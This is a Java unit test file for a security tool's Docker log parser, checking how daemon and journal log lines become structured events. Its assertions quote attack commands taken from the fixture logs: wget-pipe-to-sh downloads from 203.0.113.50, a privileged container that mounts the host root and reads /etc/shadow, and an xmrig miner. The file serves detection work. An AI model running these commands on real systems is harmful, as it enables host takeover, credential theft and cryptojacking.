package dev.cloudwarden.engine.ingest.docker;

import com.fasterxml.jackson.databind.JsonNode;
import dev.cloudwarden.engine.event.Event;
import dev.cloudwarden.engine.event.OcsfClass;
import dev.cloudwarden.engine.event.Outcome;
import dev.cloudwarden.engine.event.SourceType;
import dev.cloudwarden.engine.ingest.GoldenFiles;
import dev.cloudwarden.engine.ingest.IngestOptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class DockerFormatTest {
    @TempDir
    Path dir;

    @Test
    void daemonLogGolden() {
        List<Event> events = GoldenFiles.check("docker/daemon.log");
        assertThat(events).hasSize(31).allMatch(e -> e.source() == SourceType.DOCKER);

        Event ping = find(events, "Calling HEAD /_ping");
        assertThat(ping.time()).isEqualTo(Instant.parse("2026-03-16T09:20:41.003311207Z"));
        assertThat(ping.raw().tree().get("path").asText()).isEqualTo("/_ping");
        assertThat(ping.raw().tree().has("api_version")).isFalse();
        assertThat(ping.operation().name()).isEqualTo("HEAD /_ping");

        Event create = find(events, "Calling POST /v1.44/containers/create\"");
        assertThat(create.ocsfClass()).isEqualTo(OcsfClass.API_ACTIVITY);
        assertThat(create.operation().service()).isEqualTo("docker");
        assertThat(create.operation().name()).isEqualTo("POST /containers/create");
        assertThat(create.raw().tree().get("api_version").asText()).isEqualTo("1.44");
        assertThat(create.raw().tree().get("level").asText()).isEqualTo("debug");
        assertThat(create.src().isEmpty()).isTrue();

        Event form = events.get(events.indexOf(create) + 1);
        JsonNode raw = form.raw().tree();
        assertThat(raw.get("msg").asText()).startsWith("form data: {\"AttachStderr\"");
        assertThat(raw.get("method").asText()).isEqualTo("POST");
        assertThat(raw.get("path").asText()).isEqualTo("/containers/create");
        assertThat(raw.get("image").asText()).isEqualTo("alpine");
        assertThat(raw.get("cmdline").asText()).isEqualTo("sh -c wget -qO- http://203.0.113.50/x.sh|sh");
        assertThat(raw.at("/form/HostConfig/Privileged").asBoolean()).isTrue();
        assertThat(raw.at("/form/HostConfig/Binds/0").asText()).isEqualTo("/:/host");
        assertThat(form.operation().name()).isEqualTo("POST /containers/create");

        Event start = find(events, "/start\"");
        assertThat(start.operation().name()).isEqualTo("POST /containers/{id}/start");
        assertThat(start.resources()).hasSize(1);
        assertThat(start.resources().get(0).id()).startsWith("4f5e6a7b8c9d");

        Event exec = find(events, "\\\"Cmd\\\":[\\\"cat\\\"");
        assertThat(exec.operation().name()).isEqualTo("POST /containers/{id}/exec");
        assertThat(exec.raw().tree().get("cmdline").asText()).isEqualTo("cat /host/etc/shadow");
        assertThat(find(events, "Calling POST /v1.44/exec/").operation().name()).isEqualTo("POST /exec/{id}/start");

        Event miner = find(events, "xmrig/xmrig");
        assertThat(miner.raw().tree().get("image").asText()).isEqualTo("xmrig/xmrig:latest");
        assertThat(miner.raw().tree().get("cmdline").asText())
                .isEqualTo("/xmrig/xmrig --donate-level 1 -o pool.supportxmr.example:443");
        assertThat(miner.raw().tree().get("api_version").asText()).isEqualTo("1.41");
        assertThat(miner.raw().tree().get("query").asText()).isEqualTo("name=sysupdate");

        Event error = find(events, "returned error");
        assertThat(error.operation().name()).isEqualTo("POST /containers/{id}/start");
        assertThat(error.outcome()).isEqualTo(Outcome.failure(null, "No such container: nonexistent"));

        Event info = find(events, "Loading containers: start.");
        assertThat(info.ocsfClass()).isEqualTo(OcsfClass.BASE_EVENT);
        assertThat(info.operation().name()).isEqualTo("log");
        Event insecure = find(events, "without --tlsverify");
        assertThat(insecure.raw().tree().get("host").asText()).isEqualTo("tcp://0.0.0.0:2375");
        assertThat(insecure.raw().tree().get("level").asText()).isEqualTo("warning");
    }

    @Test
    void journalGoldenRoutesDockerdLinesToDockerAndOthersToSyslog() {
        List<Event> events = GoldenFiles.check("docker/journal.log");
        assertThat(events).hasSize(9);
        // The journal header is claimed by the syslog format, which hands dockerd's lines to this one.
        assertThat(events).filteredOn(e -> e.raw().text().contains("dockerd[812]"))
                .hasSize(8).allMatch(e -> e.source() == SourceType.DOCKER);
        Event systemd = find(events, "systemd[1]");
        assertThat(systemd.source()).isEqualTo(SourceType.SSHD);

        Event form = find(events, "form data");
        assertThat(form.raw().tree().get("host").asText()).isEqualTo("docker-host");
        assertThat(form.raw().tree().get("program").asText()).isEqualTo("dockerd");
        assertThat(form.raw().tree().get("pid").asLong()).isEqualTo(812);
        assertThat(form.raw().tree().get("path").asText()).isEqualTo("/containers/create");
        assertThat(form.raw().tree().get("query").asText()).isEqualTo("name=x");
        assertThat(form.raw().tree().get("cmdline").asText()).isEqualTo("sh -c wget -q -O- http://203.0.113.50/k.sh | sh");
        // The logfmt time is more precise than syslog's and carries its zone, so it wins.
        assertThat(form.time()).isEqualTo(Instant.parse("2026-03-16T10:02:41.100019873Z"));
        assertThat(form.dst().host()).isEqualTo("docker-host");
    }

    @Test
    void autodetectionPicksDockerForLogfmtAndDockerdSyslogLines() throws IOException {
        DockerFormat format = new DockerFormat();
        assertThat(format.recognizes("time=\"2019-10-15T09:15:11.123456789Z\" level=debug msg=\"Calling POST /v1.40/containers/create?name=x\"")).isTrue();
        assertThat(format.recognizes("Oct 15 09:15:11 host dockerd[1234]: time=\"2019-10-15T09:15:11.123456789Z\" level=debug msg=\"Calling GET /v1.40/info\"")).isTrue();
        assertThat(format.recognizes("Oct 15 09:15:11 host sshd[1234]: Accepted password for a from 1.2.3.4 port 1 ssh2")).isFalse();

        Path file = Files.writeString(dir.resolve("syslog"), """
                Oct 15 09:15:11 host dockerd[1234]: time="2019-10-15T09:15:11.123456789Z" level=debug msg="Calling POST /v1.40/containers/create?name=x"
                """);
        GoldenFiles.Collected c = GoldenFiles.read(file, IngestOptions.defaults());
        assertThat(c.events).singleElement().satisfies(e -> {
            assertThat(e.source()).isEqualTo(SourceType.DOCKER);
            assertThat(e.raw().tree().get("query").asText()).isEqualTo("name=x");
        });
    }

    @Test
    void malformedLinesAreRejectedWithTheirReasonAndTheNextLinesStillParse() throws IOException {
        Path file = Files.writeString(dir.resolve("docker.log"), """
                time="2026-03-16T09:20:41.003311207Z" level=debug msg="Calling HEAD /_ping"
                time="2026-03-16T09:20:41.1Z" level=debug msg="Calling GET /v1.44/info
                time="yesterday" level=info msg="x"
                Mar 16 09:20:42 host sshd[1]: Accepted password for a from 1.2.3.4 port 1 ssh2
                just some text
                time="2026-03-16T09:20:43Z" level=debug msg="Calling GET /v1.44/version"
                """);
        GoldenFiles.Collected c = GoldenFiles.read(file, IngestOptions.defaults());
        assertThat(c.events).hasSize(2);
        assertThat(c.events.get(1).operation().name()).isEqualTo("GET /version");
        assertThat(c.rejections).extracting(r -> r.reason()).containsExactly(
                "unterminated quoted value for key 'msg'",
                "time 'yesterday' is not an RFC 3339 timestamp",
                "syslog line from 'sshd', not dockerd (scan mixed syslog files with --source sshd, which reads every program's lines)",
                "neither a dockerd logfmt line (time=\"...\" level=... msg=...) nor a syslog line from dockerd");
    }

    @Test
    void apiCallSplitsVersionQueryAndIds() {
        ApiCall call = ApiCall.ofMessage("Calling DELETE /v1.44/containers/abc123?force=1&v=1");
        assertThat(call).isEqualTo(new ApiCall("DELETE", "/containers/abc123", "1.44", "force=1&v=1"));
        assertThat(call.operation()).isEqualTo("DELETE /containers/{id}");
        assertThat(ApiCall.ofMessage("Calling GET /v1.44/containers/json").operation()).isEqualTo("GET /containers/json");
        assertThat(ApiCall.ofMessage("Calling POST /images/create?fromImage=x").apiVersion()).isNull();
        assertThat(ApiCall.ofMessage("Calling the API")).isNull();
    }

    private static Event find(List<Event> events, String text) {
        return events.stream().filter(e -> e.raw().text().contains(text)).findFirst()
                .orElseThrow(() -> new AssertionError("no event with '" + text + "'"));
    }
}
